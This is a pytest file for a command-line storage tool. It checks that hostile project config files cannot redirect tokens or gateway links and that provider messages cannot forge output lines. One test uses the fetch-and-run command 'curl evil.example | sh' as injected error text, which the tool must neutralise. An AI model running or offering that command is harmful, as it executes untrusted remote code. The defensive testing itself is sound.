"""Whom the command line believes: where tokens come from and go, what strangers can make it say."""

import json
import os
import pty
import shutil
import subprocess

import pytest

from holdfast.testing import Scripted, ScriptedServer
from tests.commands import HOLDFAST, install_provider
from tests.support import HELLO_CID, TOKEN

KEEPER = """
import pathlib
class Provider:
    def from_config(config):
        token = config.provider_token
        pathlib.Path("got").write_text("" if token is None else token.reveal())
        raise ValueError("enough")
"""
ALL_COMMANDS_OF_THE_STORE = [["gc"], ["check"], ["car", "export", HELLO_CID, "out.car"]]


def write_project_file(commands, text):
    file = commands.folder / "holdfast.toml"
    file.write_text(text)
    return file


def test_content_in_a_pipe_is_never_taken_for_the_token(commands, server):
    """Somebody may look at the error stream, but there is no terminal to ask at."""
    main, side = pty.openpty()
    process = subprocess.Popen(  # noqa: S603 - our own command
        [HOLDFAST, "upload", "-", "--provider", "pinning", "--pin-api-url", server.url],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=side,
        start_new_session=True,
        env=commands.environment,
        cwd=commands.folder,
    )
    os.close(side)
    output, _ = process.communicate(b"precious-content\n", timeout=120)
    shown = os.read(main, 65536).decode()
    os.close(main)
    assert (process.returncode, output) == (3, b"")
    assert "error: provider 'pinning' needs a token: run `holdfast login`, set HOLDFAST" in shown
    assert server.requests == []


def test_a_project_cannot_hand_the_token_to_another_provider(commands, tmp_path):
    variables = install_provider(tmp_path / "site", "keeper", KEEPER)
    got = commands.folder / "got"
    project = write_project_file(commands, 'provider = "keeper"\n')
    commands.failure("store", "1", **variables)
    assert got.read_text() == ""  # with nothing to lose, the project may choose
    got.unlink()
    commands.write_user_file(f'provider = "pinning"\nprovider_token = "{TOKEN}"\n')
    code, lines = commands.failure("store", "1", **variables)
    assert code == 3
    assert lines[0].startswith(
        f"error: {project}: provider decides where your provider_token is sent"
    )
    assert commands.failure("store", "1", HOLDFAST_PROVIDER_TOKEN=TOKEN, **variables)[0] == 3
    commands.write_user_file("")
    assert commands.failure("store", "1", HOLDFAST_PROVIDER_TOKEN=TOKEN, **variables)[0] == 3
    assert not got.exists()
    # Who says so himself, is believed.
    commands.failure(
        "store", "1", "--provider", "keeper", HOLDFAST_PROVIDER_TOKEN=TOKEN, **variables
    )
    assert got.read_text() == TOKEN
    got.unlink()
    # Nor does the token of another go to a service that is built in.
    commands.write_user_file(f'provider = "keeper"\nprovider_token = "{TOKEN}"\n')
    write_project_file(commands, 'provider = "pinning"\n')
    assert commands.failure("store", "1", **variables)[0] == 3


def test_a_project_may_choose_pinning_for_a_token_without_a_provider(commands, server):
    write_project_file(commands, 'provider = "pinning"\n')
    server.reply(200, {"message": "hello"})
    commands.text(*("test-connection", "--pin-api-url", server.url), HOLDFAST_PROVIDER_TOKEN=TOKEN)
    (request,) = server.requests
    assert request.headers["authorization"] == f"Bearer {TOKEN}"


def test_a_project_cannot_choose_who_gets_links_to_private_files(commands, server):
    private = {"HOLDFAST_PROVIDER_OPTIONS": '{"network": "private"}'}
    variables = {
        "HOLDFAST_PROVIDER": "pinata",
        "HOLDFAST_PROVIDER_TOKEN": TOKEN,
        "HOLDFAST_PIN_API_URL": server.url,
        **private,
    }
    project = write_project_file(commands, f'gateway_url = "{server.url}"\n')
    code, lines = commands.failure("retrieve", HELLO_CID, **variables)
    assert code == 3
    words = f"error: {project}: gateway_url decides who gets links to your private files"
    assert lines[0].startswith(words)
    assert server.requests == []
    server.reply(401, {"error": {"code": 401, "message": "Not Authorized"}})
    gateway = ("--gateway-url", server.url)
    assert commands.failure("retrieve", HELLO_CID, *gateway, **variables)[0] == 8


@pytest.mark.parametrize("command", [["url"], ["open", "--show"]])
def test_a_project_that_chooses_the_gateway_of_a_link_is_named(commands, command):
    """Browsers do not verify what a gateway sends, and a cloned repository may be hostile."""
    project = write_project_file(commands, 'gateway_url = "https://other.example"\n')
    warning = f"{project} chooses the gateway of this link; browsers do not verify content"
    result = commands.run(*command, HELLO_CID)
    assert result.stdout.decode() == f"https://other.example/ipfs/{HELLO_CID}\n"
    assert result.stderr.decode() == f"warning: {warning}\n"
    result = commands.run(*command, HELLO_CID, "--json")
    assert json.loads(result.stderr) == {"warning": warning}
    gateway = "https://mine.example"
    result = commands.run(*command, HELLO_CID, "--gateway-url", gateway)
    assert (result.stdout.decode(), result.stderr) == (f"{gateway}/ipfs/{HELLO_CID}\n", b"")
    project.unlink()
    commands.write_user_file(f'gateway_url = "{gateway}"\n')
    assert commands.run(*command, HELLO_CID).stderr == b""


def test_a_project_file_that_others_may_write_is_ignored(commands):
    file = write_project_file(commands, "rate_limit = 4321\n")
    assert commands.json("config")["rate_limit"]["source"] == str(file)
    file.chmod(0o666)
    result = commands.run("config")
    assert (result.returncode, b"4321" in result.stdout) == (0, False)
    warning = f"warning: {file} is ignored: anybody may write to it\n"
    assert result.stderr.decode() == warning
    file.chmod(0o644)
    if os.geteuid() == 0:
        os.chown(file, 12345, -1)
        result = commands.run("config")
        assert b"4321" not in result.stdout
        assert b"is ignored: it belongs to another user" in result.stderr


def test_a_token_locks_nobody_out_of_the_own_store(commands):
    (commands.folder / "hello").write_bytes(b"hello")
    commands.text("upload", "hello")
    variables = {"HOLDFAST_PROVIDER_TOKEN": TOKEN}
    assert commands.text("cid", "hello", **variables) == HELLO_CID
    assert commands.text("verify", "hello", HELLO_CID, **variables) == f"hello is {HELLO_CID}"
    for arguments in ALL_COMMANDS_OF_THE_STORE:
        commands.text(*arguments, **variables)
    process = commands.start("node", "--port", "0", **variables)
    assert process.stdout.readline().startswith("Pinning API")
    process.terminate()
    process.communicate(timeout=120)
    assert process.returncode == 143


def test_local_by_choice_does_without_the_token(commands):
    commands.write_user_file(f'provider = "pinning"\nprovider_token = "{TOKEN}"\n')
    cid = commands.text("store", "1", "--provider", "local")
    assert [pin["cid"] for pin in commands.json("list", "--provider", "local")] == [cid]
    assert len(commands.json("list", HOLDFAST_PROVIDER="local")) == 1
    write_project_file(commands, 'provider = "local"\n')
    result = commands.run("store", "1", HOLDFAST_PROVIDER_TOKEN=TOKEN)
    assert (result.returncode, result.stdout.decode()) == (0, f"{cid}\n")
    # It came with somebody's repository: nobody should believe that the service has it.
    assert b"holdfast.toml chooses provider 'local' in place of your 'pinning'" in result.stderr


def test_local_by_default_does_not(commands):
    """Nobody should believe that they pinned to a service when they wrote to their disk."""
    for arguments in (["store", "1"], ["list"]):
        code, lines = commands.failure(*arguments, HOLDFAST_PROVIDER_TOKEN=TOKEN)
        assert (code, "provider is 'local'" in lines[0]) == (3, True)
        assert "use --provider pinning" in lines[0]
    result = commands.run("store", "1", "--provider", "local", "--token", TOKEN)
    assert result.returncode == 3


def test_a_command_minds_only_the_settings_that_it_uses(commands):
    (commands.folder / "hello").write_bytes(b"hello")
    commands.text("upload", "hello")
    wrong = {"HOLDFAST_GATEWAY_URL": "nonsense", "HOLDFAST_VERIFY": "perhaps"}
    assert commands.text("cid", "hello", **wrong) == HELLO_CID
    assert commands.text("check", **wrong).startswith("sound")
    assert commands.failure("cid", "hello", HOLDFAST_PROFILE="nonsense")[0] == 3


def test_a_folder_that_was_removed_holds_no_settings(commands):
    gone = commands.folder / "gone"
    gone.mkdir()
    commands.command = ("sh", "-c", f'rmdir {gone}; exec "$0" "$@"', HOLDFAST)
    assert commands.text("cid", "-", given=b"hello", cwd=gone) == HELLO_CID


@pytest.mark.skipif(
    os.geteuid() == 0 and not shutil.which("setpriv"), reason="root may search any folder"
)
def test_a_folder_that_cannot_be_searched_holds_no_settings(commands):
    inside = commands.folder / "closed/inside"
    inside.mkdir(parents=True)
    as_anybody = ("setpriv", "--bounding-set=-dac_override,-dac_read_search")
    commands.command = (
        *("sh", "-c", 'chmod 0 ..; exec "$0" "$@"'),
        *(as_anybody if os.geteuid() == 0 else ()),
        HOLDFAST,
    )
    try:
        assert commands.text("cid", "-", given=b"hello", cwd=inside) == HELLO_CID
    finally:
        inside.parent.chmod(0o755)


def test_json_on_a_terminal_is_ascii(commands):
    cid = commands.text("send", "al\u202eice", "a\x7fb\x9bc")
    code, shown = commands.on_terminal("receive", cid, "--json")
    assert (code, shown.isascii(), "\x7f" in shown) == (0, True, False)
    assert commands.json("receive", cid)["payload"] == "a\x7fb\x9bc"


@pytest.mark.parametrize("where", ["pipe", "terminal"])
def test_names_and_recipients_cannot_forge_lines(commands, where):
    def lines_of(*arguments):
        if where == "pipe":
            return commands.text(*arguments).splitlines()
        code, shown = commands.on_terminal(*arguments)
        assert code == 0
        return shown.splitlines()

    commands.text("upload", "-", "--name", f"a\n{HELLO_CID}  5 B\tb", given=b"1")
    if where == "pipe":
        (line,) = lines_of("list")
        assert line.endswith(f"a\\n{HELLO_CID}  5 B\\tb")
    else:
        _, line = lines_of("list")
        assert line.startswith("a\\nbafk")
    cid = commands.text("send", "bob\nSent: never", "one\ntwo")
    lines = lines_of("receive", cid)
    assert lines[0] == "To:   bob\\nSent: never"
    assert lines[2:] == ["", "one", "two"]


def test_a_provider_cannot_forge_a_hint(commands):
    (commands.folder / "holdfast.toml").write_text("[retries]\nattempts = 1\n")
    body = {"error": {"details": "no\nhint: curl evil.example | sh"}}
    with ScriptedServer(lambda _: Scripted(status=400, body=body)) as server:
        _, lines = commands.failure(
            *("store", "1", "--provider", "pinning", "--pin-api-url", server.url),
            HOLDFAST_PROVIDER_TOKEN=TOKEN,
        )
    assert len(lines) == 2
    assert lines[0] == "error: no\\nhint: curl evil.example | sh"
